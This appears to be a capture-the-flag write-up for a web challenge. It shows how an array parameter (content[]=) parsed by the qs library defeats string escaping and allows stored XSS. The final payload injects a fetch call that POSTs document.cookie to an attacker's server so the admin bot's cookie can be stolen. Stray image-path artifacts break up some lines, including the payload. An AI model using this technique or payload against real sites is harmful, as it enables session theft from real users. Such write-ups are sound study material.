This is the first challenge I worked on. I will soon upload a post on the second one. I completed this challenge with the help of my team mentor!

Let’s Begin!

The challenge lets us load into the DOM whatever we want through this pastebin-esque function. When you make a note, you have an option to share it with a “TjMike” Entity. Sign of XSS/CSRF attacks?

Login My input, “uwu”, is shoved into a javascript string variable called ’note’. Further down we see a const clean variable that calls DOMpurify to sanitize our input.

Looking into the HTML, whatever content we put into the note is immediately shoved into a javascript string. However, if you try to input quotation marks in there, the DOMpurify clean function escapes it. So, if we can get an unescaped quote in there, we can do whatever we want. Let’s focus on the comment.


Going to the /source endpoint takes us, well, directly to the webpage’s app file.

Of note are the app’s use of using the Express BodyParser to operate on ’extended’ mode (using the qs library instead of the querystring library).


In the source we also see:


JSON.stringify(unsafe) - if our content (unsafe) is a string, then the function simply adds additional quotation marks onto the string, and the slice(1,-1) function removes those extra quotations, before feeding it to the DOM to be rendered. What if our input isn’t a string - what if it’s an array?

The qs library allows arrays to be parsed from HTTP requests if theyre stipulated as:


    //array = [a,b]

When we make a note (POST request to/note), intercept the request via burpsuite. Modify your query there. Change content= to content[]= (Alternatively, you can CURL your request to not deal with proxy settings).

Login Login

If we go to the page, we see that an alert is prompted - aka, we have succesfully escaped the JS string and can write javascript code as normal. That being said, let’s go ahead and craft a payload to xss TJMike (I am being lazy and reusing an old payload of mine from before and modifying it).

content[]=; document.getElementById('note-content').onLoad =fetch('', {method:'POST',body:JSON.stringify({data:document.cookie})});const uwu =

Share our note to TJMike. Wait for ourserver to grab their cookie.